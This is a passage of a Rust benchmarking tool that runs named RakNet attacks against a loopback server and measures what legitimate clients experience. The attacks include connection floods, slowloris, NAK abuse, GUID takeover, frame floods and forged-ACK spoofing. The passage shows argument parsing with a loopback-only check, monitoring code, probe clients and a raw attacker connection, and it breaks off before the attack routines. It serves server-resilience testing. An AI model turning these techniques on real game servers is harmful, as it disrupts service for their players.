//! `raknet-attack`: run known RakNet attacks against a server on loopback and measure what
//! legitimate clients see meanwhile.
//!
//! Many hosts are stood for by many loopback addresses: on Linux every 127.x.y.z is local, so
//! "spoofed" traffic is sent from UDP sockets bound to 127.1.x.y:0 (one socket per address,
//! which also receives whatever the server reflects to that address). Legitimate clients use
//! 127.0.0.1 and the `raknet_proto` client engine; attack packets are built with the
//! `raknet_proto` codec. Only loopback targets are accepted; every attack is bounded in packets
//! and in time, and the tool stops by itself.
//!
//! For each attack one row is printed: what was sent, what came back (amplification = bytes in
//! / bytes out), what the legitimate clients saw (a fresh client connects every 300 ms,
//! alternating protocol 6 and 11, and echoes 3 messages; one long-lived client echoes 20
//! messages a second), how long until a fresh client could connect again after the attack,
//! and the server process's CPU, RSS and socket drops. After an attack that leaves half-open or
//! idle connections behind (ocr2, handshake, slowloris), the tool waits `--cooldown` seconds so
//! that they do not spill into the next row.
//!
//! ```text
//! raknet-attack [--host 127.0.0.1] [--port 19132] [--duration 5] [--attacks all|a,b,...]
//!               [--rate 20000] [--ping-rate 5000] [--conn-rate 1000] [--sources 1000]
//!               [--slow-duration 15] [--slow-connections 100] [--server-pid PID] [--wait 60]
//!               [--cooldown 10]
//! raknet-attack --free-port     print a UDP port p such that p and p + 1 are free, and exit
//! ```

use std::cell::Cell;
use std::collections::VecDeque;
use std::io::ErrorKind;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket as StdUdpSocket};
use std::rc::Rc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use raknet_bench::{cpu_ticks, USER_HZ};
use raknet_proto::message::id;
use raknet_proto::{
    addr, Ack, AckRange, ConnId, ConnectionRequest, ConnectionRequestAccepted, DataHeader,
    Datagram, DatagramSeq, Decode, Encode, Endpoint, EndpointConfig, Event, Frame, Frames,
    MessageIndex, Nak, NewIncomingConnection, OpenConnectionReply1, OpenConnectionRequest1,
    OpenConnectionRequest2, OrderIndex, Priority, Reliability, SendOptions, UnconnectedPing,
};
use tokio::net::UdpSocket;
use tokio::time::sleep_until;

/// How often a fresh legitimate client starts.
const PROBE_INTERVAL: Duration = Duration::from_millis(300);
/// A fresh client that has not connected by then counts as a connect failure.
const PROBE_CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// Echoes each fresh client sends once connected.
const PROBE_ECHOES: u64 = 3;
/// An echo not answered by then counts as an echo failure.
const ECHO_TIMEOUT: Duration = Duration::from_secs(2);
/// Interval of the long-lived client's echoes.
const STEADY_INTERVAL: Duration = Duration::from_millis(50);
/// Most fresh clients alive at once.
const MAX_PROBES_IN_FLIGHT: usize = 64;
/// Longest wait after an attack for a fresh client to connect again.
const RECOVERY_LIMIT: Duration = Duration::from_secs(20);
/// How long attack sockets keep counting replies after the attack stops sending.
const DRAIN_GRACE: Duration = Duration::from_millis(300);
/// Keep-alive interval of the slowloris connections.
const SLOW_INTERVAL: Duration = Duration::from_secs(2);
/// Datagram-number jump of the far-ahead attack (just under official RakNet's 50 000 cutoff).
const FAR_AHEAD_GAP: u32 = 40_000;
/// Size of each message the NAK attacker has the server echo (and then never acknowledges).
const NAK_BAIT_SIZE: usize = 1200;
/// Messages the NAK attacker has the server echo.
const NAK_BAIT_COUNT: usize = 8;
/// Ports of 127.0.0.1 the ocr2-players-ip attack sends from (more than the server's default
/// `max_half_open_per_ip`, 64).
const PLAYERS_IP_PORTS: usize = 200;
/// Echo message ID used by every client of this tool.
const ECHO_ID: u8 = 0x86;
/// The legitimate clients' echo messages, in bytes: split in four at MTU 1492, so that every
/// row also shows whether players' split messages get through.
const ECHO_SIZE: usize = 5_000;
/// 4-byte reliable-ordered messages per frame-flood datagram (a 1,464-byte datagram holds 365
/// of them without their 10-byte frame headers; with them, this many).
const FRAME_FLOOD_FRAMES: usize = 100;
/// Addresses the slot-hold attack handshakes from, and ports of each.
const SLOT_HOLD_ADDRS: usize = 17;
const SLOT_HOLD_PORTS: usize = 64;
/// Connections the gap-hold attack opens from its one address.
const GAP_HOLD_CONNS: usize = 34;
/// The one-byte reliable-ordered frames one gap-hold datagram carries.
const GAP_HOLD_FRAMES: usize = 120;
/// Datagrams a second the spoof attack forges from the long-lived player's address.
const SPOOF_RATE: f64 = 400.0;
/// While the spoof attack runs, the long-lived player loses one in this many of the server's
/// datagrams, so that a forged ACK that stopped resends would show as lost echoes.
const SPOOF_DROP_EVERY: u32 = 10;
/// The sequence number of the echo requests the spoof attack forges: the player counts any
/// echo of it that reaches it.
const INJECT_SEQ: u64 = u64::MAX - 1;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Attack {
    Baseline,
    Ocr2,
    Ocr2PlayersIp,
    Ocr1,
    Ocr1Short,
    Handshake,
    PingOne,
    PingMany,
    Slowloris,
    SlowlorisNoAck,
    Nak,
    FarAhead,
    Repeat09,
    GapHold,
    GuidTakeover,
    SlotHold,
    FrameFlood,
    SlowReader,
    Spoof,
}

const ALL_ATTACKS: [Attack; 19] = [
    Attack::Baseline,
    Attack::Ocr2,
    Attack::Ocr2PlayersIp,
    Attack::Ocr1,
    Attack::Ocr1Short,
    Attack::Handshake,
    Attack::PingOne,
    Attack::PingMany,
    Attack::Slowloris,
    Attack::SlowlorisNoAck,
    Attack::Nak,
    Attack::FarAhead,
    Attack::Repeat09,
    Attack::GapHold,
    Attack::GuidTakeover,
    Attack::SlotHold,
    Attack::FrameFlood,
    Attack::SlowReader,
    Attack::Spoof,
];

impl Attack {
    fn name(self) -> &'static str {
        match self {
            Attack::Baseline => "none",
            Attack::Ocr2 => "ocr2",
            Attack::Ocr2PlayersIp => "ocr2-players-ip",
            Attack::Ocr1 => "ocr1",
            Attack::Ocr1Short => "ocr1-short",
            Attack::Handshake => "handshake",
            Attack::PingOne => "ping-one",
            Attack::PingMany => "ping-many",
            Attack::Slowloris => "slowloris",
            Attack::SlowlorisNoAck => "slowloris-noack",
            Attack::Nak => "nak",
            Attack::FarAhead => "far-ahead",
            Attack::Repeat09 => "repeat-09",
            Attack::GapHold => "gap-hold",
            Attack::GuidTakeover => "guid-takeover",
            Attack::SlotHold => "slot-hold",
            Attack::FrameFlood => "frame-flood",
            Attack::SlowReader => "slow-reader",
            Attack::Spoof => "spoof",
        }
    }

    /// Whether the attack leaves state in the server (half-open or idle connections) that
    /// lasts until the server's timeouts, and would spill into the next attack's row.
    fn leaves_state(self) -> bool {
        matches!(
            self,
            Attack::Ocr2
                | Attack::Ocr2PlayersIp
                | Attack::Handshake
                | Attack::Slowloris
                | Attack::SlowlorisNoAck
                | Attack::GapHold
                | Attack::SlotHold
        )
    }

    fn parse(s: &str) -> Option<Self> {
        ALL_ATTACKS.into_iter().find(|a| a.name() == s)
    }
}

struct Args {
    server: SocketAddr,
    duration: Duration,
    attacks: Vec<Attack>,
    rate: f64,
    ping_rate: f64,
    conn_rate: f64,
    sources: usize,
    slow_duration: Duration,
    slow_connections: usize,
    server_pid: Option<u32>,
    wait: Duration,
    cooldown: Duration,
}

fn parse_args() -> Result<Option<Args>, String> {
    let mut host = "127.0.0.1".to_string();
    let mut port = 19132u16;
    let mut a = Args {
        server: SocketAddr::from((Ipv4Addr::LOCALHOST, port)),
        duration: Duration::from_secs(5),
        attacks: ALL_ATTACKS.to_vec(),
        rate: 20_000.0,
        ping_rate: 5_000.0,
        conn_rate: 1_000.0,
        sources: 1000,
        slow_duration: Duration::from_secs(15),
        slow_connections: 100,
        server_pid: None,
        wait: Duration::from_secs(60),
        cooldown: Duration::from_secs(10),
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        if flag == "--free-port" {
            return match free_port_pair() {
                Some(p) => {
                    println!("{p}");
                    Ok(None)
                }
                None => Err("no free port pair found".into()),
            };
        }
        let value = it.next().ok_or(format!("{flag} needs a value"))?;
        let bad = || format!("bad value for {flag}: {value}");
        let secs = |v: &str| -> Result<Duration, String> {
            v.parse::<f64>()
                .ok()
                .filter(|s| s.is_finite() && *s > 0.0 && *s <= 600.0)
                .map(Duration::from_secs_f64)
                .ok_or_else(bad)
        };
        let rate = |v: &str| -> Result<f64, String> {
            v.parse::<f64>()
                .ok()
                .filter(|r| r.is_finite() && *r > 0.0 && *r <= 1_000_000.0)
                .ok_or_else(bad)
        };
        match flag.as_str() {
            "--host" => host = value.clone(),
            "--port" => port = value.parse().map_err(|_| bad())?,
            "--duration" => a.duration = secs(&value)?,
            "--slow-duration" => a.slow_duration = secs(&value)?,
            "--wait" => a.wait = secs(&value)?,
            "--cooldown" => {
                a.cooldown = value
                    .parse::<f64>()
                    .ok()
                    .filter(|s| s.is_finite() && (0.0..=600.0).contains(s))
                    .map(Duration::from_secs_f64)
                    .ok_or_else(bad)?;
            }
            "--rate" => a.rate = rate(&value)?,
            "--ping-rate" => a.ping_rate = rate(&value)?,
            "--conn-rate" => a.conn_rate = rate(&value)?,
            "--sources" => {
                a.sources = value
                    .parse()
                    .ok()
                    .filter(|n| (1..=60_000).contains(n))
                    .ok_or_else(bad)?;
            }
            "--slow-connections" => {
                a.slow_connections = value
                    .parse()
                    .ok()
                    .filter(|n| (1..=5_000).contains(n))
                    .ok_or_else(bad)?;
            }
            "--server-pid" => a.server_pid = Some(value.parse().map_err(|_| bad())?),
            "--attacks" => {
                a.attacks = if value == "all" {
                    ALL_ATTACKS.to_vec()
                } else {
                    value
                        .split(',')
                        .map(|s| Attack::parse(s.trim()).ok_or(format!("unknown attack {s}")))
                        .collect::<Result<_, _>>()?
                }
            }
            other => return Err(format!("unknown option {other}")),
        }
    }
    let ip: IpAddr = if host == "localhost" {
        IpAddr::V4(Ipv4Addr::LOCALHOST)
    } else {
        host.parse()
            .map_err(|_| format!("host must be an IP address: {host}"))?
    };
    match ip {
        IpAddr::V4(v4) if v4.is_loopback() => {}
        _ => {
            return Err(format!(
                "refusing non-loopback (or IPv6) target {ip}: loopback IPv4 only"
            ))
        }
    }
    a.server = SocketAddr::new(ip, port);
    Ok(Some(a))
}

/// A port p where p and p + 1 are both free for UDP on 127.0.0.1 and ::1 (the example server
/// listens on p over IPv4 and p + 1 over IPv6).
fn free_port_pair() -> Option<u16> {
    for _ in 0..100 {
        let s = StdUdpSocket::bind("127.0.0.1:0").ok()?;
        let p = s.local_addr().ok()?.port();
        if p == u16::MAX {
            continue;
        }
        let v6 = StdUdpSocket::bind(("::1", p + 1));
        let v4 = StdUdpSocket::bind(("127.0.0.1", p + 1));
        if v6.is_ok() && v4.is_ok() {
            return Some(p);
        }
    }
    None
}

// ---------------------------------------------------------------------------------------
// Traffic counting and small helpers

/// Packets and bytes an attack sent and received back.
#[derive(Default)]
struct Traffic {
    sent_pkts: Cell<u64>,
    sent_bytes: Cell<u64>,
    recv_pkts: Cell<u64>,
    recv_bytes: Cell<u64>,
    /// Sends the kernel refused (socket buffer full and the like).
    send_errors: Cell<u64>,
    first_send: Cell<Option<Instant>>,
    last_send: Cell<Option<Instant>>,
}

impl Traffic {
    fn sent(&self, n: usize) {
        self.sent_pkts.set(self.sent_pkts.get() + 1);
        self.sent_bytes.set(self.sent_bytes.get() + n as u64);
        let now = Instant::now();
        if self.first_send.get().is_none() {
            self.first_send.set(Some(now));
        }
        self.last_send.set(Some(now));
    }

    /// Packets per second while sending (first to last send).
    fn rate(&self) -> f64 {
        match (self.first_send.get(), self.last_send.get()) {
            (Some(a), Some(b)) if b > a => self.sent_pkts.get() as f64 / (b - a).as_secs_f64(),
            _ => 0.0,
        }
    }

    fn received(&self, n: usize) {
        self.recv_pkts.set(self.recv_pkts.get() + 1);
        self.recv_bytes.set(self.recv_bytes.get() + n as u64);
    }
}

fn encode<E: Encode>(m: &E) -> Vec<u8> {
    let mut v = Vec::with_capacity(m.encoded_len());
    m.encode(&mut v);
    v
}

/// Milliseconds since the tool started: the "time" field of handshake messages.
fn now_ms(epoch: Instant) -> u64 {
    epoch.elapsed().as_millis() as u64
}

/// xorshift64*: GUIDs and garbage; no cryptographic need.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn seed() -> u64 {
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(1, |d| d.as_nanos() as u64);
    t | 1
}

/// The i-th stand-in host: 127.1.0.1, 127.1.0.2, ... (250 per third octet).
fn source_ip(i: usize) -> Ipv4Addr {
    Ipv4Addr::new(
        127,
        1 + (i / 62_500) as u8,
        ((i / 250) % 250) as u8,
        (i % 250 + 1) as u8,
    )
}

thread_local! {
    /// Attack sockets stay open until the attack's recovery has been measured: a closed
    /// socket would make the kernel answer the server with ICMP port-unreachable, which a
    /// spoofed source that absorbs replies silently never does.
    static HELD: std::cell::RefCell<Vec<Rc<UdpSocket>>> = const { std::cell::RefCell::new(Vec::new()) };
}

fn hold(sock: &Rc<UdpSocket>) {
    HELD.with(|h| h.borrow_mut().push(sock.clone()));
}

fn release_held() {
    HELD.with(|h| h.borrow_mut().clear());
}

/// `n` sockets, the `i`th bound to `ip(i)` on a free port, held until the row ends.
async fn bind_pool(n: usize, ip: impl Fn(usize) -> Ipv4Addr) -> Result<Vec<Rc<UdpSocket>>, String> {
    let mut pool = Vec::with_capacity(n);
    for i in 0..n {
        let ip = ip(i);
        let s = UdpSocket::bind((ip, 0))
            .await
            .map_err(|e| format!("bind {ip}: {e} (raise `ulimit -n`?)"))?;
        let s = Rc::new(s);
        hold(&s);
        pool.push(s);
    }
    // Let the reactor see the new sockets writable before the first try_send_to.
    tokio::time::sleep(Duration::from_millis(2)).await;
    Ok(pool)
}

/// Count everything the server sends to `sock` until `until`.
async fn drain(sock: Rc<UdpSocket>, traffic: Rc<Traffic>, until: Instant) {
    let mut buf = vec![0u8; 2048];
    loop {
        tokio::select! {
            r = sock.readable() => {
                if r.is_err() {
                    return;
                }
                for _ in 0..1024 {
                    match sock.try_recv_from(&mut buf) {
                        Ok((n, _)) => traffic.received(n),
                        Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                        Err(_) => continue,
                    }
                }
            }
            () = sleep_until(until.into()) => return,
        }
    }
}

fn spawn_drains(pool: &[Rc<UdpSocket>], traffic: &Rc<Traffic>, until: Instant) {
    for s in pool {
        tokio::task::spawn_local(drain(s.clone(), traffic.clone(), until));
    }
}

/// How many of `max` sends at `rate` per second since `start` are due by `now` (the first at
/// once).
fn due(start: Instant, now: Instant, rate: f64, max: u64) -> u64 {
    (((now - start).as_secs_f64() * rate) as u64 + 1).min(max)
}

/// Call `send(k)` for k = 0, 1, ... at `rate` per second until `end` or `max` calls.
async fn paced(rate: f64, end: Instant, max: u64, mut send: impl FnMut(u64)) -> u64 {
    let start = Instant::now();
    let mut k = 0u64;
    while k < max {
        let now = Instant::now();
        if now >= end {
            break;
        }
        while k < due(start, now, rate, max) {
            send(k);
            k += 1;
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    k
}

fn try_send(sock: &UdpSocket, to: SocketAddr, pkt: &[u8], traffic: &Traffic) {
    if sock.try_send_to(pkt, to).is_ok() {
        traffic.sent(pkt.len());
    } else {
        traffic.send_errors.set(traffic.send_errors.get() + 1);
    }
}

// ---------------------------------------------------------------------------------------
// Server process: pid, CPU, RSS, socket drops

/// (inode, drops) of the UDP socket bound to `port` on IPv4, from /proc/net/udp.
fn udp_socket(port: u16) -> Option<(u64, u64)> {
    let text = std::fs::read_to_string("/proc/net/udp").ok()?;
    let want = format!(":{port:04X}");
    text.lines().skip(1).find_map(|line| {
        let f: Vec<&str> = line.split_whitespace().collect();
        let local = f.get(1)?;
        if !local.ends_with(&want) || f.get(2) != Some(&"00000000:0000") {
            return None;
        }
        Some((f.get(9)?.parse().ok()?, f.last()?.parse().ok()?))
    })
}

/// The process holding the socket bound to `port` (scans /proc/*/fd).
fn find_server_pid(port: u16) -> Option<u32> {
    let (inode, _) = udp_socket(port)?;
    let target = format!("socket:[{inode}]");
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|s| s.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(fds) = std::fs::read_dir(entry.path().join("fd")) else {
            continue;
        };
        for fd in fds.flatten() {
            if std::fs::read_link(fd.path()).is_ok_and(|l| l.to_string_lossy() == target) {
                return Some(pid);
            }
        }
    }
    None
}

fn rss_kb(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

// ---------------------------------------------------------------------------------------
// Legitimate clients (raknet_proto's client engine), on their own thread

struct ProbeRec {
    started: Instant,
    protocol: u8,
    done: bool,
    connect: Option<Duration>,
    echo_rtts: Vec<Duration>,
    echo_failures: u32,
}

struct EchoRec {
    sent: Instant,
    rtt: Option<Duration>,
}

#[derive(Default)]
struct Log {
    probes: Vec<ProbeRec>,
    echoes: Vec<EchoRec>,
    steady_connected: bool,
    /// The GUID of the long-lived client's current connection (the takeover's target).
    steady_guid: Option<u64>,
    /// The long-lived client's address and port (the spoof attack's target).
    steady_addr: Option<SocketAddr>,
    /// Times the long-lived client's connection ended under it.
    steady_lost: u32,
    /// Echoes of [`INJECT_SEQ`] the long-lived client received.
    injected_seen: u32,
    /// Non-zero: the long-lived client drops one in this many datagrams it receives.
    steady_drop_every: u32,
}

type SharedLog = Arc<Mutex<Log>>;

fn with_log<T>(log: &SharedLog, f: impl FnOnce(&mut Log) -> T) -> T {
    let mut guard = match log.lock() {
        Ok(g) => g,
        Err(poisoned) => poisoned.into_inner(),
    };
    f(&mut guard)
}

/// One client endpoint on its own socket.
struct Client {
    ep: Endpoint,
    sock: UdpSocket,
    conn: ConnId,
    rx: Vec<u8>,
    tx: Vec<u8>,
    /// Non-zero: drop one in this many datagrams received (a lossy link).
    drop_every: u32,
    received: u32,
}

impl Client {
    async fn start(server: SocketAddr, protocol: u8, seed: u64) -> Option<Self> {
        let sock = UdpSocket::bind("127.0.0.1:0").await.ok()?;
        let local = sock.local_addr().ok()?;
        let config = EndpointConfig {
            rng_seed: seed,
            protocol_versions: vec![protocol],
            accept_incoming: false,
            ..EndpointConfig::default()
        };
        let mut ep = Endpoint::new(config, local, Instant::now());
        let conn = ep.connect(Instant::now(), server).ok()?;
        Some(Self {
            ep,
            sock,
            conn,
            rx: vec![0; 2048],
            tx: Vec::with_capacity(2048),
            drop_every: 0,
            received: 0,
        })
    }

    async fn flush(&mut self) {
        let now = Instant::now();
        while let Some(t) = self.ep.poll_transmit(now, &mut self.tx) {
            let _ = self.sock.send_to(&self.tx[..t.size], t.destination).await;
        }
    }

    /// Run I/O and timers once (waking at `until` at the latest); append events.
    async fn turn(&mut self, until: Instant, events: &mut Vec<Event>) {
        self.flush().await;
        let wake = self.ep.poll_timeout().map_or(until, |t| t.min(until));
        tokio::select! {
            r = self.sock.readable() => {
                if r.is_ok() {
                    for _ in 0..256 {
                        match self.sock.try_recv_from(&mut self.rx) {
                            Ok(_) if self.lose() => {}
                            Ok((n, from)) => self.ep.handle(
                                Instant::now(),
                                from,
                                Bytes::copy_from_slice(&self.rx[..n]),
                            ),
                            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                            Err(_) => continue,
                        }
                    }
                }
            }
            () = sleep_until(wake.into()) => {}
        }
        self.ep.handle_timeout(Instant::now());
        while let Some(e) = self.ep.poll_event() {
            events.push(e);
        }
        self.flush().await;
    }

    /// Whether the datagram just received is lost (see [`Self::drop_every`]).
    fn lose(&mut self) -> bool {
        self.received = self.received.wrapping_add(1);
        self.drop_every > 0 && self.received % self.drop_every == 0
    }

    fn send_echo(&mut self, seq: u64) -> bool {
        let mut payload = vec![ECHO_ID];
        payload.extend_from_slice(&seq.to_be_bytes());
        // A player's message larger than one datagram: split, as a Bedrock login is.
        payload.resize(ECHO_SIZE, 0x55);
        let opts = SendOptions {
            reliability: Reliability::ReliableOrdered,
            channel: 0,
            priority: Priority::High,
        };
        self.ep
            .send(Instant::now(), self.conn, Bytes::from(payload), opts)
            .is_ok()
    }

    /// Close and give the 0x15 a moment to leave (bounded).
    async fn close(mut self) {
        self.ep.close(Instant::now(), self.conn);
        let until = Instant::now() + Duration::from_millis(300);
        let mut events = Vec::new();
        while Instant::now() < until {
            self.turn(until, &mut events).await;
            if events
                .iter()
                .any(|e| matches!(e, Event::Disconnected { .. }))
            {
                break;
            }
        }
    }
}

fn echo_seq(payload: &[u8]) -> Option<u64> {
    if payload.first() != Some(&ECHO_ID) {
        return None;
    }
    Some(u64::from_be_bytes(payload.get(1..9)?.try_into().ok()?))
}

/// A fresh client: connect (time it), echo [`PROBE_ECHOES`] messages, close.
async fn probe(server: SocketAddr, protocol: u8, seed: u64, log: SharedLog, idx: usize) {
    let started = with_log(&log, |l| l.probes[idx].started);
    let deadline = started + PROBE_CONNECT_TIMEOUT;
    let Some(mut c) = Client::start(server, protocol, seed).await else {
        with_log(&log, |l| l.probes[idx].done = true);
        return;
    };
    let mut events = Vec::new();
    let mut connected = None;
    let mut failed = false;
    while connected.is_none() && !failed && Instant::now() < deadline {
        c.turn(deadline, &mut events).await;
        for e in events.drain(..) {
            match e {
                Event::Connected { .. } => connected = Some(started.elapsed()),
                Event::Disconnected { .. } => failed = true,
                _ => {}
            }
        }
    }
    let Some(connect) = connected.filter(|_| !failed) else {
        with_log(&log, |l| l.probes[idx].done = true);
        return;
    };
    let mut sent_at = Vec::new();
    for k in 0..PROBE_ECHOES {
        if c.send_echo(k) {
            sent_at.push((k, Instant::now()));
        }
    }
    let mut rtts = Vec::new();
    let until = Instant::now() + ECHO_TIMEOUT;
    let mut lost = false;
    while rtts.len() < sent_at.len() && !lost && Instant::now() < until {
        c.turn(until, &mut events).await;
        for e in events.drain(..) {
            match e {
                Event::Message { payload, .. } => {
                    if let Some(&(_, t)) =
                        echo_seq(&payload).and_then(|s| sent_at.iter().find(|(k, _)| *k == s))
                    {
                        rtts.push(t.elapsed());
                    }
                }
                Event::Disconnected { .. } => lost = true,
                _ => {}
            }
        }
    }
    let failures = (PROBE_ECHOES as usize - rtts.len()) as u32;
    with_log(&log, |l| {
        let p = &mut l.probes[idx];
        p.done = true;
        p.connect = Some(connect);
        p.echo_rtts = rtts;
        p.echo_failures = failures;
    });
    if !lost {
        c.close().await;
    }
}

/// The long-lived client: echoes every [`STEADY_INTERVAL`]; reconnects when it loses the
/// connection. Every tick without a connection counts as a failed echo.
async fn steady(server: SocketAddr, log: SharedLog, stop: Arc<AtomicBool>, hard_end: Instant) {
    let mut seed = 0x57ead_u64;
    let mut outage_since = Instant::now();
    while !stop.load(Ordering::Relaxed) && Instant::now() < hard_end {
        seed += 1;
        let Some(mut c) = Client::start(server, 11, seed).await else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let mut events = Vec::new();
        let deadline = Instant::now() + PROBE_CONNECT_TIMEOUT;
        let mut connected = false;
        let mut failed = false;
        while !connected && !failed && Instant::now() < deadline {
            c.turn(deadline, &mut events).await;
            for e in events.drain(..) {
                match e {
                    Event::Connected { .. } => connected = true,
                    Event::Disconnected { .. } => failed = true,
                    _ => {}
                }
            }
        }
        // Ticks missed while not connected.
        let now = Instant::now();
        with_log(&log, |l| {
            let mut t = outage_since + STEADY_INTERVAL;
            while t < now {
                l.echoes.push(EchoRec { sent: t, rtt: None });
                t += STEADY_INTERVAL;
            }
            l.steady_connected = connected && !failed;
            l.steady_guid = Some(c.ep.guid());
            l.steady_addr = c.sock.local_addr().ok();
        });
        outage_since = now;
        if !connected || failed {
            continue;
        }
        let mut outstanding: VecDeque<(u64, Instant)> = VecDeque::new();
        let mut seq = 0u64;
        let mut next = Instant::now();
        let mut lost = false;
        while !lost && !stop.load(Ordering::Relaxed) && Instant::now() < hard_end {
            c.drop_every = with_log(&log, |l| l.steady_drop_every);
            c.turn(next, &mut events).await;
            let now = Instant::now();
            let mut done = Vec::new();
            let mut injected = 0;
            for e in events.drain(..) {
                match e {
                    Event::Message { payload, .. } if echo_seq(&payload) == Some(INJECT_SEQ) => {
                        injected += 1;
                    }
                    Event::Message { payload, .. } => {
                        if let Some(s) = echo_seq(&payload) {
                            if let Some(pos) = outstanding.iter().position(|(k, _)| *k == s) {
                                if let Some((_, t)) = outstanding.remove(pos) {
                                    done.push(EchoRec {
                                        sent: t,
                                        rtt: Some(now - t),
                                    });
                                }
                            }
                        }
                    }
                    Event::Disconnected { .. } => lost = true,
                    _ => {}
                }
            }
            while outstanding
                .front()
                .is_some_and(|(_, t)| lost || now - *t > ECHO_TIMEOUT || outstanding.len() > 200)
            {
                if let Some((_, t)) = outstanding.pop_front() {
                    done.push(EchoRec { sent: t, rtt: None });
                }
            }
            if now >= next && !lost {
                if c.send_echo(seq) {
                    outstanding.push_back((seq, now));
                } else {
                    done.push(EchoRec {
                        sent: now,
                        rtt: None,
                    });
                }
                seq += 1;
                next += STEADY_INTERVAL;
                if next < now {
                    next = now + STEADY_INTERVAL;
                }
            }
            if !done.is_empty() || injected > 0 || lost {
                with_log(&log, |l| {
                    l.echoes.append(&mut done);
                    l.injected_seen += injected;
                    l.steady_lost += u32::from(lost);
                });
            }
        }
        with_log(&log, |l| l.steady_connected = false);
        outage_since = Instant::now();
        if !lost {
            c.close().await;
        }
    }
}

fn legit_thread(server: SocketAddr, log: SharedLog, stop: Arc<AtomicBool>, hard_end: Instant) {
    let Ok(rt) = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    else {
        return;
    };
    let local = tokio::task::LocalSet::new();
    local.block_on(&rt, async move {
        tokio::task::spawn_local(steady(server, log.clone(), stop.clone(), hard_end));
        let mut n = 0u64;
        let mut next = Instant::now();
        while !stop.load(Ordering::Relaxed) && Instant::now() < hard_end {
            sleep_until(next.into()).await;
            next += PROBE_INTERVAL;
            let in_flight = with_log(&log, |l| l.probes.iter().filter(|p| !p.done).count());
            if in_flight >= MAX_PROBES_IN_FLIGHT {
                continue;
            }
            let protocol = if n % 2 == 0 { 6 } else { 11 };
            n += 1;
            let idx = with_log(&log, |l| {
                l.probes.push(ProbeRec {
                    started: Instant::now(),
                    protocol,
                    done: false,
                    connect: None,
                    echo_rtts: Vec::new(),
                    echo_failures: 0,
                });
                l.probes.len() - 1
            });
            tokio::task::spawn_local(probe(server, protocol, n ^ 0xa77ac, log.clone(), idx));
        }
    });
}

// ---------------------------------------------------------------------------------------
// A hand-driven client connection (the attacker's own): every datagram number, ACK and frame
// is under the attacker's control.

struct RawConn {
    sock: Rc<UdpSocket>,
    server: SocketAddr,
    protocol: u8,
    guid: u64,
    next_seq: u32,
    next_ri: u32,
    next_oi: u32,
    /// Data datagram numbers received and not yet acknowledged (bounded).
    to_ack: Vec<u32>,
    /// The server sent 0x15.
    closed: bool,
    /// Last time the server acknowledged one of our datagrams.
    last_ack: Option<Instant>,
    /// Lowest and highest data datagram number seen from the server.
    server_seqs: Option<(u32, u32)>,
    /// Payload IDs of frames received, counted by ID.
    frame_ids: [u32; 256],
}

enum Incoming {
    Data,
    Ack(Vec<AckRange>),
    Other,
}

impl RawConn {
    fn frame(&mut self, reliability: Reliability, payload: Vec<u8>) -> Frame {
        let mut f = Frame::new(reliability, Bytes::from(payload));
        if reliability.is_reliable() {
            f.message_index = MessageIndex::new(self.next_ri);
            self.next_ri += 1;
        }
        if reliability == Reliability::ReliableOrdered {
            f.order_index = OrderIndex::new(self.next_oi);
            self.next_oi += 1;
        }
        f
    }

    fn datagram_at(seq: u32, frames: &[Frame]) -> Vec<u8> {
        let mut v = encode(&DataHeader::new(DatagramSeq::new(seq)));
        for f in frames {
            f.encode(&mut v);
        }
        v
    }

    fn datagram(&mut self, frames: &[Frame]) -> Vec<u8> {
        let v = Self::datagram_at(self.next_seq, frames);
        self.next_seq += 1;
        v
    }

    async fn send(&self, pkt: &[u8], traffic: &Traffic) {
        if self.sock.send_to(pkt, self.server).await.is_ok() {
            traffic.sent(pkt.len());
        } else {
            traffic.send_errors.set(traffic.send_errors.get() + 1);
        }
    }

    /// Note what one datagram from the server says.
    fn absorb(&mut self, pkt: &[u8]) -> Incoming {
        let Ok(d) = Datagram::decode(Bytes::copy_from_slice(pkt), false) else {
            return Incoming::Other;
        };
        match d {
            Datagram::Data { header, body } => {
                let s = header.seq.get();
                if self.to_ack.len() < 4096 {
                    self.to_ack.push(s);
                }
                self.server_seqs = Some(match self.server_seqs {
                    Some((lo, hi)) => (lo.min(s), hi.max(s)),
                    None => (s, s),
                });
                for f in Frames::new(body).flatten() {
                    if let Some(&b) = f.payload.first() {
                        self.frame_ids[usize::from(b)] += 1;
                        if b == id::DISCONNECTION_NOTIFICATION {
                            self.closed = true;
                        }
                    }
                }
                Incoming::Data
            }
            Datagram::Ack(a) => {
                self.last_ack = Some(Instant::now());
                Incoming::Ack(a.ranges)
            }
            Datagram::Nak(_) => Incoming::Other,
        }
    }

    /// An ACK of everything received since the last one.
    fn take_ack(&mut self) -> Option<Vec<u8>> {
        if self.to_ack.is_empty() {
            return None;
        }
        self.to_ack.sort_unstable();
        self.to_ack.dedup();
        let mut ranges: Vec<AckRange> = Vec::new();
        for &s in &self.to_ack {
            match ranges.last_mut() {
                Some(r) if r.end.get() + 1 == s => r.end = DatagramSeq::new(s),
                _ => ranges.push(AckRange::single(DatagramSeq::new(s))),
            }
        }
        self.to_ack.clear();
        Some(encode(&Ack {
            timestamp: None,
            arrival_rate: None,
            ranges,
        }))
    }

    /// Receive what is there (waiting until `until` for the first datagram); returns how
    /// many datagrams were read.
